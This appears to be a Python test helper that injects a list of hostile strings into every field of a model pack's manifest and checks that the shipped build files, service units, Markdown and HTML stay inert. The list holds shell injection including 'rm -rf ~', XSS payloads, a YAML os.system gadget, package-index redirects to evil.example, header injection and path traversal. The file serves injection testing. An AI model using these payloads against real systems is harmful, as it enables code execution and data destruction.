"""Hostile values for every string of a pack, and a parser of each language that a shipped module is written in.

The test of hostile packs and benchmarks/attack.py share it.
"""

import configparser
import contextlib
import hashlib
import json
import re
import shutil
import subprocess
import tomllib
import zipfile
from html.parser import HTMLParser
from importlib import import_module
from pathlib import Path
from xml.etree import ElementTree

from markdown_it import MarkdownIt
from packaging.requirements import Requirement

from edgepack.core import files
from edgepack.core.errors import EdgepackError
from edgepack.pack.manifest import MANIFEST_FILE, SUMS_FILE, Manifest, sums_of
from edgepack.report.judge import judge
from edgepack.report.junit import junit
from edgepack.report.model_card import write_model_card
from edgepack.report.write import html, markdown
from edgepack.ship.shipping import ship

NODE = shutil.which("node")
MARK = "hxstile"  # stands in every hostile value: where it comes out, it must be a value
HOSTILE = (
    f'{MARK}"; evil("x"); //',
    f"{MARK}' --index-url http://evil.example/simple",
    f"{MARK}\n[build-system]\nrequires = ['evil']\nExecStart=/bin/evil\n--index-url http://evil.example",
    f"${{{MARK}}} $({MARK}) `{MARK}` %n %h {{{{ {MARK} }}}} {{% {MARK} %}}",
    f"</script></title><img src=x onerror={MARK}> <script>{MARK}</script> ]]> <!-- {MARK}",
    f"| {MARK} | [{MARK}](http://evil.example) ![x](http://evil.example) **{MARK}** http://evil.example www.evil.example",
    f"# {MARK}\n\n```\n{MARK}\n```\n---\nlicense: evil\n---\n",
    f"{MARK}\u2028\u2029\u0085\x00\x07\x1b[31m\u202e\u2066\ufeff\\u000a\\",
    f"1.0; python_version<'3' @ http://evil.example/{MARK} -e .",
    f"../../{MARK}/../x",
    f"{MARK}\\u0022; evil(); //\\u000a*/ \"\"\" ''' {MARK}",
    f"!!python/object/apply:os.system ['{MARK}'] &a *a ? : - > |",
    f"{MARK};rm -rf ~;&&|| > /tmp/{MARK} \\\n next ^ %PATH% $HOME",
    f"{MARK}\r\nSet-Cookie: {MARK}\r\n\r\n<svg/onload={MARK}>",
)


WISHES = {"android": {"with_sample": True, "reduced_runtime": True}}  # all that a platform can write


def places(content, path=()):
    """The place of every string of a JSON value; those of a list's later entries are like those of its first."""
    if isinstance(content, dict):
        for key, value in content.items():
            yield from places(value, (*path, key))
    elif isinstance(content, list):
        yield from places(content[0], (*path, 0)) if content else ()
    elif isinstance(content, str):
        yield path


def open_places(content, values=None):
    """The places of pack.json that take any text, or those that take all of `values`: others are refused where the pack is read."""
    if values is None:
        return [path for path in places(content) if any(_is_read(poisoned(content, [path], value)) for value in HOSTILE)]
    return [path for path in places(content) if all(_is_read(poisoned(content, [path], value)) for value in values)]


def poisoned(content, paths, value):
    copy = json.loads(json.dumps(content))
    for path in paths:
        part = copy
        for key in path[:-1]:
            part = part[key]
        part[path[-1]] = value
    return copy


def _is_read(content) -> bool:
    try:
        Manifest.read(content, MANIFEST_FILE)
    except EdgepackError:
        return False
    return True


def _write(pack: Path, content) -> None:
    """As somebody does who seals the pack anew: with its own hash."""
    unsealed = "0" * 64
    text = json.dumps(content | {"sha256": unsealed})
    text = text.replace(unsealed, hashlib.sha256(text.encode()).hexdigest(), 1)
    (pack / MANIFEST_FILE).write_text(text)
    with contextlib.suppress(EdgepackError):  # what is no manifest is refused before its sums
        (pack / SUMS_FILE).write_text(sums_of(Manifest.read(json.loads(text), MANIFEST_FILE), text.encode()))


def shipped_poisoned(pack: Path, content, value: str, platform: str, out: Path) -> int:
    """Ships `pack` with `value` in every place that takes it, and checks what came out. Returns in how many places it stood.

    Places that stop the platform by name, such as the runtime of the plan, which decides what is shipped, are left out. AssertionError
    where a value escapes its place, and where the platform cannot be shipped at all; any other exception is a crash.
    """
    used = open_places(content, (value,))
    assert ("labels", "0") in used and len(used) > 10
    with _files_alone(platform):
        used = _taken(pack, content, value, platform, out, used)
        assert used and _ships(pack, poisoned(content, used, value), platform, out), f"{platform} ships nothing of {value!r}"
    check_folder(out)
    return len(used)


def _taken(pack: Path, content, value: str, platform: str, out: Path, places: list) -> list:
    """Those of `places` that do not stop the platform: all together, or each half by itself."""
    if _ships(pack, poisoned(content, places, value), platform, out):
        return places
    if len(places) == 1:
        return []
    half = len(places) // 2
    return [*_taken(pack, content, value, platform, out, places[:half]), *_taken(pack, content, value, platform, out, places[half:])]


def _ships(pack: Path, content, platform: str, out: Path) -> bool:
    _write(pack, content)
    shutil.rmtree(out, ignore_errors=True)
    try:
        ship(pack, platform, out, package="com.example.intents", **WISHES.get(platform, {}))
    except EdgepackError:
        return False
    return True


@contextlib.contextmanager
def _files_alone(platform: str):
    """Without what takes long and writes no text: the self-test asks the model, javac compiles, the disk is waited for."""
    module = import_module(f"edgepack.ship.platforms.{platform}")
    slow = {"self_tested": None, "classes_jar": None, "packed": None, "write_reduced": ()}  # dpkg-deb's folder is read, not its archive
    remaining = {name: module.__dict__.pop(name) for name in slow if name in module.__dict__}
    for name in set(remaining) - {"self_tested"}:
        setattr(module, name, lambda *_, given=slow[name]: given)
    sync, files.sync = files.sync, lambda path: None
    try:
        yield
    finally:
        module.__dict__.update(remaining)
        files.sync = sync


def check_folder(folder: Path) -> None:
    """AssertionError, or the parser's own error, where a file is not what its template says."""
    for path in sorted(folder.rglob("*")):
        if path.is_file() and path.name in CHECKS:
            CHECKS[path.name](path.read_text(encoding="utf-8"))
        elif path.is_file() and path.suffix in CHECKS:
            CHECKS[path.suffix](path.read_text(encoding="utf-8"))
        elif path.suffix == ".aar":
            with zipfile.ZipFile(path) as archive:
                ElementTree.fromstring(archive.read("AndroidManifest.xml"))
        elif path.is_file() and path.suffix != ".jsonl":  # whatever else is shipped, code or not
            assert MARK.encode() not in path.read_bytes(), path
    if NODE and (folder / "src" / "signer.js").is_file():
        subprocess.run([NODE, "--check", str(folder / "src" / "signer.js")], check=True, capture_output=True)


def _toml(text: str) -> None:
    content = tomllib.loads(text)
    assert content["build-system"] == {"requires": ["hatchling>=1.26"], "build-backend": "hatchling.build"}
    assert set(content) == {"build-system", "project", "tool"}
    _requirements("\n".join(content["project"]["dependencies"]))


def _requirements(text: str) -> None:
    for line in text.splitlines():
        if re.fullmatch(r"    --hash=sha256:[0-9a-f]{64}( \\)?", line):
            continue
        if line and not line.startswith("#"):
            result = Requirement(line.split(" \\")[0])
            assert result.url is None and result.marker is None and result.name in KNOWN, line


KNOWN = {"numpy", "onnxruntime", "tokenizers", "waitress", "cryptography", "cffi", "ai-edge-litert", "tflite-runtime"}


def _unit(text: str) -> None:
    unit = configparser.ConfigParser(interpolation=None, strict=True)
    unit.optionxform = str
    unit.read_string(text)
    assert set(unit) == {"DEFAULT", "Unit", "Service", "Install"} and MARK not in str(dict(unit["Service"]))


def _gradle(text: str) -> None:
    """What is left of the file without comments and strings is the template's own code; no string interpolates."""
    strings = re.findall(r'"(?:[^"\\\n]|\\.)*"', re.sub(r"//.*", "", text))
    assert not any(re.search(r"(?<!\\)\$", string) for string in strings)
    assert MARK not in re.sub(r'"(?:[^"\\\n]|\\.)*"', '""', text)


def kotlin_strings(text: str) -> list[str]:
    """The strings of a file in which nobody interpolates; a hostile mark stands in them alone."""
    strings = re.findall(r'"((?:[^"\\\n]|\\.)*)"', re.sub(r"/\*.*?\*/", "", text, flags=re.S))
    assert not any(re.search(r"(?<!\\)\$", string) for string in strings)
    assert MARK not in re.sub(r'"(?:[^"\\\n]|\\.)*"', '""', text)
    return strings


def _no_value(text: str) -> None:
    assert MARK not in text


def _control(text: str) -> None:
    """Of a Debian package: its own fields, each once."""
    fields = [line.partition(":")[0] for line in text.splitlines() if not line.startswith(" ")]
    assert len(fields) == len(set(fields)) == 9 and fields[0] == "Package"
    _no_value(text)


def _markdown(text: str) -> None:
    """No tag, no link and no image but the template's own, and no hostile mark: `hxstile` stands in plain text or in code."""
    front = re.match(r"---\n(.*?)\n---\n", text, re.S)
    if front:
        import yaml

        assert set(yaml.safe_load(front[1])) <= {"license", "library_name", "pipeline_tag", "tags"}
        text = text[front.end() :]
    for token in _tokens(MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).parse(text)):
        assert token.type not in ("html_block", "html_inline", "image"), token.content
        if token.type == "link_open":
            assert "evil" not in token.attrs["href"]
        if token.type in ("fence", "code_block"):
            assert MARK not in token.content
    assert not re.search("[\x00\x07\x1b\u202e\u2066\u2028]", text)


def _tokens(tokens):
    for token in tokens:
        yield token
        yield from _tokens(token.children or [])


class _Page(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.attributes = set(), set()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}


def _page(text: str) -> None:
    page = _Page()
    page.feed(text)
    assert not page.tags & {"script", "img"} and "onerror" not in page.attributes
    assert not re.search("[\x00\x07\x1b\u202e\u2066\u2028]", text)


CHECKS = {
    "pyproject.toml": _toml,
    "requirements.txt": _requirements,
    "build.gradle.kts": _gradle,
    "Examples.kt": kotlin_strings,
    "libs.versions.toml": lambda text: _no_value(text) or tomllib.loads(text),
    "Dockerfile": _no_value,
    ".dockerignore": _no_value,
    "postinst": _no_value,
    "prerm": _no_value,
    "intents": _no_value,  # the command of the Debian package
    "control": _control,
    ".kt": _no_value,
    ".kts": _no_value,
    ".properties": _no_value,
    ".service": _unit,
    ".xml": ElementTree.fromstring,
    ".json": json.loads,
    ".md": _markdown,
}


def check_reports(content, value: str, folder: Path) -> int:
    """Report, JUnit and model card of the poisoned pack; in how many places the value stood."""
    used = [path for path in open_places(content, (value,)) if not _breaks(content, path, value, folder)]
    manifest = Manifest.read(poisoned(content, used, value), MANIFEST_FILE)
    report = judge(manifest, None).model_copy(update={"notes": (value,), "headline": value, "device": value})
    _markdown(markdown(report))
    _page(html(report))
    ElementTree.fromstring(junit(report))
    write_model_card(folder, manifest)
    _markdown((folder / "README.md").read_text(encoding="utf-8"))
    return len(used)


def _breaks(content, path, value, tmp_path) -> bool:
    """A place that selects code here, such as the plan's runtime, and not text that is shown."""
    try:
        manifest = Manifest.read(poisoned(content, [path], value), MANIFEST_FILE)
        judge(manifest, None)
        write_model_card(tmp_path, manifest)
    except (EdgepackError, KeyError):
        return True
    return False
